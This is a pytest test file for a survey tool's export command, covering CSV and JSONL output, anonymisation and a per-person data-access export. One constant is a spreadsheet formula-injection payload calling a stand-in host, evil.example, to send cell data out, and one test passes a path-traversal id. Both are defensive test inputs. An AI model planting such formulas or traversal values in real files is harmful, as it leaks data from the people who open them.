"""``bonsclics export``: CSV and JSON Lines, formula-safe, anonymised, and the right of access."""

from __future__ import annotations

import csv
import io
import json
import re
import stat
import sys
from datetime import datetime
from pathlib import Path

import pytest
from store_helpers import PARIS, SUIVI_AGE, make_sheet, run_cli, store

from bonsclics_cli.store.anonymize import Pseudonyms, band

JANUARY = datetime(2026, 1, 10, 9, 5, tzinfo=PARIS)
MARCH = datetime(2026, 3, 14, 10, 15, tzinfo=PARIS)
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
FREE_TEXT = "Écrire à ma fille Maryse à Roubaix"


def fill(data: Path) -> None:
    store(make_sheet("BC-7F3K9Q", JANUARY, profile="low", text=FORMULA), data)
    store(make_sheet("BC-7F3K9Q", MARCH, text=FREE_TEXT), data)
    store(make_sheet("BC-2Z", MARCH, questionnaire="suivi-age", text=FREE_TEXT), data)


def rows(text: str, delimiter: str = ";") -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=delimiter))


def test_csv_has_a_bom_semicolons_and_one_row_per_session(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    result = run_cli(["export", "-q", SUIVI_AGE])
    assert result.exit_code == 0, result.stderr
    assert result.stdout_bytes.startswith(b"\xef\xbb\xbf")
    header = result.stdout[1:].splitlines()[0].split(";")
    assert header[:9] == [
        "person", "questionnaire", "version", "started_at", "updated_at", "completed_at",
        "complete", "score", "level",
    ]  # fmt: skip
    assert header[9:11] == ["score_messagerie", "level_messagerie"]
    assert "envie_apprendre" in header and "age" in header
    table = rows(result.stdout)
    assert [(r["person"], r["questionnaire"]) for r in table] == [
        ("BC-2Z", "suivi-age"),
        ("BC-7F3K9Q", "autonomie-numerique"),
        ("BC-7F3K9Q", "autonomie-numerique"),
    ]
    january = table[1]
    assert january["started_at"] == "2026-01-10T09:05:00+01:00"
    assert january["complete"] == "true"
    assert (january["score"], january["level"]) == ("0", "avec_guidage")
    assert january["appareils"] == "aucun"
    assert table[2]["appareils"] == "smartphone,ordinateur,tablette,telephone_simple"
    assert table[0]["age"] == "47" and table[0]["appareils"] == ""


def test_a_formula_in_a_text_answer_is_neutralised(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    result = run_cli(["export", "-q", SUIVI_AGE])
    assert rows(result.stdout)[1]["envie_apprendre"] == "'" + FORMULA
    assert ";=HYPERLINK" not in result.stdout and ';"=HYPERLINK' not in result.stdout


def test_states_and_empty_choices_have_their_own_marks(tmp_path: Path) -> None:
    from bonsclics_cli.answers.sheet import Answer

    answers = {
        "demarche_a_faire": Answer.stated("declined"),
        "appareils": Answer.of([]),
        "connexion": Answer.stated("dont_know"),
    }
    store(make_sheet("BC-1", answers=answers, complete=False), tmp_path / "data")
    [row] = rows(run_cli(["export"]).stdout)
    assert row["demarche_a_faire"] == "(declined)"
    assert row["appareils"] == "(none)"
    assert row["connexion"] == "(dont_know)"
    assert row["lecture_ecran"] == ""
    assert row["complete"] == "false" and row["completed_at"] == ""


def test_delimiter_option(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    result = run_cli(["export", "-q", SUIVI_AGE, "--delimiter", ","])
    assert rows(result.stdout, ",")[2]["appareils"] == (
        "smartphone,ordinateur,tablette,telephone_simple"
    )
    bad = run_cli(["export", "--delimiter", "ab"])
    assert bad.exit_code == 2 and "--delimiter" in bad.stderr


def test_jsonl_has_one_object_per_session(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    result = run_cli(["export", "-q", SUIVI_AGE, "--format", "jsonl"])
    assert result.exit_code == 0, result.stderr
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(records) == 3
    first = records[1]
    assert list(first)[:9] == [
        "person", "questionnaire", "started_at", "updated_at", "completed_at",
        "complete", "score", "level", "domains",
    ]  # fmt: skip
    assert first["questionnaire"] == {"id": "autonomie-numerique", "version": "2.0.0"}
    assert first["domains"]["securite"] == {"score": 0, "level": "a_decouvrir"}
    assert first["answers"]["envie_apprendre"] == {"value": FORMULA}
    assert records[0]["answers"]["age"] == {"value": 47}


def test_since_and_questionnaire_id_filter_the_sessions(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    since = rows(run_cli(["export", "-q", SUIVI_AGE, "--since", "2026-02-01"]).stdout)
    assert [r["started_at"][:10] for r in since] == ["2026-03-14", "2026-03-14"]
    only = rows(run_cli(["export", "-q", SUIVI_AGE, "--questionnaire-id", "suivi-age"]).stdout)
    assert [r["person"] for r in only] == ["BC-2Z"]


def test_bad_since_is_a_usage_error(tmp_path: Path) -> None:
    result = run_cli(["export", "--since", "14/03/2026"])
    assert result.exit_code == 2
    assert "--since" in result.stderr and "YYYY-MM-DD" in result.stderr


def test_output_file_is_private_and_complete(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    target = tmp_path / "out" / "export.csv"
    result = run_cli(["export", "-q", SUIVI_AGE, "-o", target])
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    assert target.read_bytes() == run_cli(["export", "-q", SUIVI_AGE]).stdout_bytes
    if sys.platform != "win32":
        assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_an_empty_folder_gives_only_the_header(tmp_path: Path) -> None:
    result = run_cli(["export"])
    assert result.exit_code == 0
    assert rows(result.stdout) == []
    assert "No sessions to export." in result.stderr
    assert not (tmp_path / "data").exists()


def test_a_damaged_session_is_reported_and_the_rest_exported(tmp_path: Path) -> None:
    data = tmp_path / "data"
    fill(data)
    (data / "sessions/BC-7F3K9Q/2026-05-01-090000-autonomie-numerique.json").write_text("[]")
    result = run_cli(["export", "-q", SUIVI_AGE])
    assert result.exit_code == 1
    assert "2026-05-01-090000-autonomie-numerique.json" in result.stderr
    assert len(rows(result.stdout)) == 3


# --- anonymised ----------------------------------------------------------------------


@pytest.mark.parametrize("output_format", ["csv", "jsonl"])
def test_anonymised_export_leaks_no_id_text_or_date(tmp_path: Path, output_format: str) -> None:
    fill(tmp_path / "data")
    result = run_cli(["export", "-q", SUIVI_AGE, "--anonymize", "--k", "1", "-f", output_format])
    assert result.exit_code == 0, result.stderr
    exported = result.stdout_bytes
    for secret in ("BC-7F3K9Q", "BC-2Z", "7F3K9Q", FREE_TEXT, "Maryse", "HYPERLINK"):
        assert secret.encode() not in exported, secret
    assert re.search(rb"\d{4}-\d{2}-\d{2}", exported) is None  # no day
    assert re.search(rb"\d{2}:\d{2}", exported) is None  # no time
    assert b"envie_apprendre" not in exported and b"remarque" not in exported
    assert b"2026-01" in exported and b"2026-03" in exported
    # The random pseudonyms are hex and may hold any digits: look at everything else.
    answers = re.sub(rb"anon-[0-9a-f]{8}", b"anon-", exported)
    assert b"47" not in answers and b"40-49" in answers  # age band
    assert b"20-29" in exported  # children: 20, banded too


def test_anonymised_ids_group_one_person_and_change_between_exports(tmp_path: Path) -> None:
    fill(tmp_path / "data")
    first = rows(run_cli(["export", "-q", SUIVI_AGE, "--anonymize", "--k", "1"]).stdout)
    second = rows(run_cli(["export", "-q", SUIVI_AGE, "--anonymize", "--k", "1"]).stdout)
    by_questionnaire = {(r["questionnaire"], r["month"]): r["person"] for r in first}
    bc7 = {by_questionnaire[("autonomie-numerique", m)] for m in ("2026-01", "2026-03")}
    assert len(bc7) == 1
    assert by_questionnaire[("suivi-age", "2026-03")] not in bc7
    assert all(re.fullmatch(r"anon-[0-9a-f]{8}", r["person"]) for r in first)
    assert {r["person"] for r in first}.isdisjoint({r["person"] for r in second})
    assert list(first[0])[:5] == ["person", "questionnaire", "version", "month", "complete"]


def test_pseudonyms_and_bands() -> None:
    pseudonyms = Pseudonyms()
    assert pseudonyms.of("A") == pseudonyms.of("A") != pseudonyms.of("B")
    assert [band(n) for n in (0, 9, 9.99, 10, 47, 89, 90, 120, -3)] == [
        "0-9", "0-9", "0-9", "10-19", "40-49", "80-89", "90+", "90+", "<0",
    ]  # fmt: skip


# --- the right of access ---------------------------------------------------------------


def test_person_export_holds_everything_kept(tmp_path: Path) -> None:
    data = tmp_path / "data"
    fill(data)
    report = data / "reports" / "BC-7F3K9Q" / "2026-03-14-rapport.html"
    report.parent.mkdir(parents=True)
    report.write_text("<h1>Compte rendu</h1>", "utf-8")
    (data / "sessions/BC-7F3K9Q/2026-03-14-101500-autonomie-numerique.json.lock").touch()
    result = run_cli(["export", "--person", "BC-7F3K9Q", "-q", SUIVI_AGE])
    assert result.exit_code == 0, result.stderr
    document = json.loads(result.stdout)
    assert document["person"] == "BC-7F3K9Q"
    assert [s["file"] for s in document["sessions"]] == [
        "sessions/BC-7F3K9Q/2026-01-10-090500-autonomie-numerique.json",
        "sessions/BC-7F3K9Q/2026-03-14-101500-autonomie-numerique.json",
    ]
    march = document["sessions"][1]
    assert march["content"]["answers"]["envie_apprendre"] == {"value": FREE_TEXT}
    assert march["score"]["score"] == 100 and march["score"]["level"] == "autonome"
    assert document["other_files"] == [
        {
            "file": "reports/BC-7F3K9Q/2026-03-14-rapport.html",
            "bytes": 21,
            "text": "<h1>Compte rendu</h1>",
        }
    ]
    assert "BC-2Z" not in result.stdout


def test_person_export_of_a_damaged_session_keeps_its_text(tmp_path: Path) -> None:
    data = tmp_path / "data"
    fill(data)
    damaged = data / "sessions/BC-7F3K9Q/2026-05-01-090000-autonomie-numerique.json"
    damaged.write_text('{"format": 1, "person": "BC-7F3K9Q"', "utf-8")
    document = json.loads(run_cli(["export", "--person", "BC-7F3K9Q"]).stdout)
    entry = document["sessions"][-1]
    assert entry["text"] == '{"format": 1, "person": "BC-7F3K9Q"'
    assert entry["score"] is None and "invalid JSON" in entry["error"]


@pytest.mark.parametrize(
    "extra",
    [["--anonymize"], ["--since", "2026-01-01"], ["-f", "csv"], ["--questionnaire-id", "x"]],
)
def test_person_export_refuses_options_that_would_hide_data(
    tmp_path: Path, extra: list[str]
) -> None:
    fill(tmp_path / "data")
    result = run_cli(["export", "--person", "BC-7F3K9Q", *extra])
    assert result.exit_code == 2
    assert "--person exports everything" in result.stderr
    assert result.stdout == ""


def test_person_export_unsafe_or_unknown_id(tmp_path: Path) -> None:
    unsafe = run_cli(["export", "--person", "../../x"])
    assert unsafe.exit_code == 2 and "not a valid person id" in unsafe.stderr
    assert not (tmp_path / "data").exists()
    fill(tmp_path / "data")
    unknown = run_cli(["export", "--person", "BC-404"])
    assert unknown.exit_code == 1 and "nothing is kept about 'BC-404'" in unknown.stderr
